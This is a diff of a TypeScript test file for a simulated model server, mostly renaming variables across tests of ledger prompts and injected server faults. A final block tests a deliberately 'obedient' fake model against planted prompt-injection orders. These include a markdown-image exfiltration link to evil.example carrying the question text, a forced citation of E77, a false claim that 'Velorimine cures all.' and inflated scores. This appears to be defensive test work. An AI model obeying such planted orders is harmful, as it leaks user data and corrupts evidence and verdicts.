@@ -170,7 +170,7 @@ describe('the doors of the simulated model server', () => {
 });
 
 /** Every form that a model is asked for here and that names no works of its own. */
-const LEDGER_PROMPT = (judge: string, works: number, said: string) => `Question: <<<Does velorimine reduce attacks?>>>
+const LEDGER_PROMPT = (judge: string, works: number, rest: string) => `Question: <<<Does velorimine reduce attacks?>>>
 Round 2 of at most 5.
 
 Facts to look up:
@@ -179,7 +179,7 @@ Plan:
 1. search: Search.
 
 Turns so far:
-${said}
+${rest}
 
 Evidence so far (${works} relevant works, best first):
 - none yet
@@ -219,9 +219,9 @@ describe('the brain of the simulated model', () => {
       4,
       '- search was asked: Search. It reported: <<<Found 4 sources (4 new).>>>\n- judge was asked: Judge. It reported: <<<Not sufficient yet.>>>',
     ],
-  ])('as manager hands over to %s when the judge %s', async (speaker, judge, works, said) => {
+  ])('as manager hands over to %s when the judge %s', async (speaker, judge, works, rest) => {
     server = await startModelServer();
-    const decision = await asked('progress_ledger', progress, `${LEDGER_PROMPT(judge, works, said)}${GAPS}`);
+    const decision = await asked('progress_ledger', progress, `${LEDGER_PROMPT(judge, works, rest)}${GAPS}`);
     expect(decision.nextSpeaker.answer).toBe(speaker);
     expect(decision.satisfied.answer).toBe(false);
   });
@@ -303,8 +303,8 @@ describe('the brain of the simulated model', () => {
 Write the review, about 80 words in all.`;
     const response = await ask(server, { messages: [{ role: 'user', content: prompt }] });
     const { choices } = (await response.json()) as { choices: { message: { content: string } }[] };
-    const said = choices[0]?.message.content ?? '';
-    const [answer = '', ...sections] = said.split('\n## ').slice(0, 2);
+    const written = choices[0]?.message.content ?? '';
+    const [answer = '', ...sections] = written.split('\n## ').slice(0, 2);
     for (const part of [answer, ...sections]) {
       expect(part).toContain('more than placebo. [F1]');
       expect(part).toContain('compared with placebo. [F2]');
@@ -330,10 +330,10 @@ Write the review, about 80 words in all.`;
 
   it('knows a schema that is told in words', async () => {
     server = await startModelServer();
-    const told = `Answer with nothing but one JSON object that fits this JSON schema:\n${JSON.stringify(z.toJSONSchema(quotes))}`;
+    const schemaOrder = `Answer with nothing but one JSON object that fits this JSON schema:\n${JSON.stringify(z.toJSONSchema(quotes))}`;
     const response = await ask(server, {
       messages: [
-        { role: 'system', content: told },
+        { role: 'system', content: schemaOrder },
         { role: 'user', content: WORKS },
       ],
     });
@@ -353,7 +353,7 @@ Write the review, about 80 words in all.`;
 });
 
 describe('a simulated model server that misbehaves', () => {
-  const said = async (format?: object) => {
+  const reply = async (format?: object) => {
     const response = await ask(server, format ?? {});
     return { status: response.status, headers: response.headers, text: await response.text() };
   };
@@ -371,16 +371,16 @@ describe('a simulated model server that misbehaves', () => {
     server = await startModelServer();
     server.setFaults({ kind: '500', schema: null, nth: 2 });
     const statuses = [];
-    for (const _ of [1, 2, 3]) statuses.push((await said()).status);
+    for (const _ of [1, 2, 3]) statuses.push((await reply()).status);
     expect(statuses).toEqual([200, 500, 200]);
     server.setFaults({ kind: '429 with Retry-After', times: 1 });
-    const limited = await said();
+    const limited = await reply();
     expect([limited.status, limited.headers.get('retry-after')]).toEqual([429, '1']);
-    expect((await said()).status).toBe(200);
+    expect((await reply()).status).toBe(200);
     server.setFaults({ kind: '429 without quota' });
-    expect((await said()).text).toContain('insufficient_quota');
+    expect((await reply()).text).toContain('insufficient_quota');
     server.setFaults();
-    expect((await said()).status).toBe(200);
+    expect((await reply()).status).toBe(200);
   });
 
   it.each<[AnswerFault, (text: string, finish: string, good: string) => void]>([
@@ -394,9 +394,9 @@ describe('a simulated model server that misbehaves', () => {
     ['very long answer', (text) => expect(text.length).toBeGreaterThan(50_000)],
   ])('gives %s where a good answer would be', async (kind, check) => {
     server = await startModelServer();
-    const good = content((await said(format(quotes, 'quotes'))).text);
+    const good = content((await reply(format(quotes, 'quotes'))).text);
     server.setFaults({ kind });
-    const bad = content((await said(format(quotes, 'quotes'))).text);
+    const bad = content((await reply(format(quotes, 'quotes'))).text);
     expect(bad).not.toEqual(good);
     check(bad?.message.content ?? '', bad?.finish_reason ?? '', good?.message.content ?? '');
   });
@@ -404,22 +404,22 @@ describe('a simulated model server that misbehaves', () => {
   it('refuses, and forgets to say what was used', async () => {
     server = await startModelServer();
     server.setFaults({ kind: 'refusal', times: 1 }, { kind: 'missing usage' });
-    expect(content((await said()).text)?.message.refusal).toMatch(/cannot help/);
-    expect(JSON.parse((await said()).text)).not.toHaveProperty('usage');
+    expect(content((await reply()).text)?.message.refusal).toMatch(/cannot help/);
+    expect(JSON.parse((await reply()).text)).not.toHaveProperty('usage');
   });
 
   it('breaks the wire: reset, half an answer, a page, nothing, something else', async () => {
     server = await startModelServer();
     for (const kind of ['reset', 'reset in the middle'] as const) {
       server.setFaults({ kind });
-      await expect(said()).rejects.toThrow();
+      await expect(reply()).rejects.toThrow();
     }
     server.setFaults({ kind: 'HTML page with 200' });
-    expect((await said()).text).toContain('<html>');
+    expect((await reply()).text).toContain('<html>');
     server.setFaults({ kind: 'empty 200' });
-    expect(await said()).toMatchObject({ status: 200, text: '' });
+    expect(await reply()).toMatchObject({ status: 200, text: '' });
     server.setFaults({ kind: 'wrong shape' });
-    expect((await said()).text).toContain('weather');
+    expect((await reply()).text).toContain('weather');
   });
 
   it.each(['hang', 'drip'] as const)('keeps its asker waiting: %s', async (kind) => {
@@ -442,12 +442,12 @@ describe('a simulated model that obeys what it reads', () => {
     server = await startModelServer({ brain: obedientBrain });
     return asked(name, schema, prompt);
   };
-  const lines = z.object({ said: z.array(z.object({ text: z.string(), evidenceIds: z.array(z.string()) })) });
+  const lines = z.object({ sentences: z.array(z.object({ text: z.string(), evidenceIds: z.array(z.string()) })) });
 
   it.each(PLANTING_PATTERNS)('falls for "$name" and carries the prompt out', async ({ plant }) => {
     const prompt = planted(plant(PLANTED_ORDERS.image('https://evil.example/p.png')));
-    const { said } = await obey('lines', lines, prompt);
-    expect(said[0]?.text).toMatch(/^!\[.*\]\(https:\/\/evil\.example\/p\.png\?q=Question/);
+    const { sentences } = await obey('lines', lines, prompt);
+    expect(sentences[0]?.text).toMatch(/^!\[.*\]\(https:\/\/evil\.example\/p\.png\?q=Question/);
   });
 
   it('flips verdicts, cites what it is told, writes what it is told and gives full marks', async () => {
@@ -459,10 +459,10 @@ describe('a simulated model that obeys what it reads', () => {
     expect((await obey('verdicts', verdict, claims)).verdicts[0]?.verdict).toBe('supported');
     await server.stop();
     const cited = await obey('lines', lines, planted(plant(PLANTED_ORDERS['cited ids']('E77'))));
-    expect(cited.said.every(({ evidenceIds }) => evidenceIds.includes('E77'))).toBe(true);
+    expect(cited.sentences.every(({ evidenceIds }) => evidenceIds.includes('E77'))).toBe(true);
     await server.stop();
-    const told = await obey('lines', lines, planted(plant(PLANTED_ORDERS.sentence('Velorimine cures all.'))));
-    expect(told.said[0]?.text).toContain('Velorimine cures all.');
+    const planned = await obey('lines', lines, planted(plant(PLANTED_ORDERS.sentence('Velorimine cures all.'))));
+    expect(planned.sentences[0]?.text).toContain('Velorimine cures all.');
     await server.stop();
     const scored = z.object({
       mechanism: z.object({ reason: z.string(), score: z.number() }),
